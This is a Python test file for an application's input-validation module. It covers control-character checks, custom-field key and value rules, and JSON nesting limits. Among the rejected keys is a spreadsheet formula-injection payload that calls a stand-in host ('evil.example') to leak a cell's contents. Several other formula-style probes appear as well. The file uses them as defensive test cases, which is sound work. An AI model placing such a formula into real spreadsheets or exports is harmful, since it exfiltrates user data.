"""sureapp/validation.py: the one control-character check, the custom-field rules and the JSON
document check that every entry point shares."""
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sureapp.validation import (CONTROL_CHARACTERS, MAX_SAFE_INTEGER, NON_FINITE_NUMBER,
                                custom_key_problem, custom_value_problem, has_control_characters,
                                json_tree_problem, without_control_characters)


@settings(max_examples=300, deadline=None)
@given(text=st.text(), allow_newlines=st.booleans())
def test_the_control_check_is_exactly_unicode_categories_cc_and_cs(text, allow_newlines):
    allowed = {"\t", "\n", "\r"} if allow_newlines else set()
    expected = any(unicodedata.category(c) in ("Cc", "Cs") and c not in allowed for c in text)
    assert has_control_characters(text, allow_newlines) is expected
    assert not has_control_characters(without_control_characters(text))


@pytest.mark.parametrize("key", ["=WEBSERVICE(\"http://evil.example/\"&A1)", "+SUM(1,2)",
                                 "-2+3", "@SUM(A1)", "  =cmd", "", "   ", "k" * 65, "a\x00b",
                                 "tab\there", "new\nline", "esc\x1b[31m", "c1\x85", "\ud800"])
def test_unusable_custom_field_keys(key):
    assert custom_key_problem(key) is not None


@pytest.mark.parametrize("key", ["plan", "Favourite colour", "a=b", "ünïcödé", "k" * 64, "1st"])
def test_usable_custom_field_keys(key):
    assert custom_key_problem(key) is None


@pytest.mark.parametrize("value,problem", [
    (float("inf"), NON_FINITE_NUMBER), (float("-inf"), NON_FINITE_NUMBER),
    (float("nan"), NON_FINITE_NUMBER), ("nul\x00", CONTROL_CHARACTERS),
    ("bell\x07", CONTROL_CHARACTERS), (MAX_SAFE_INTEGER + 1, None), (-MAX_SAFE_INTEGER - 1, None),
    ([1], None), ({"a": 1}, None), ("x" * 2001, None),
])
def test_unusable_custom_field_values(value, problem):
    found = custom_value_problem(value)
    assert found is not None and (problem is None or found == problem)


@pytest.mark.parametrize("value", [None, True, False, 0, MAX_SAFE_INTEGER, -MAX_SAFE_INTEGER,
                                   1.5, -1e308, "", "+49 30 1234", "-5", "@handle", "=1+1",
                                   "two\nlines\twith tab\r\n", "x" * 2000])
def test_usable_custom_field_values(value):
    # Values are data: formula-looking ones are escaped by the CSV export, not refused.
    assert custom_value_problem(value) is None


def test_json_tree_names_the_first_bad_place():
    assert json_tree_problem({"a": [{"b": "ok"}, {"c": float("inf")}]}).path == "a.1.c"
    assert json_tree_problem({"a": {"k\x01": 1}}).message == CONTROL_CHARACTERS
    assert json_tree_problem({"a": "fine\n", "b": [1, 2.5, True, None]}) is None
    deep = []
    node = deep
    for _ in range(40):
        node.append([])
        node = node[0]
    assert json_tree_problem(deep, max_depth=32).too_deep
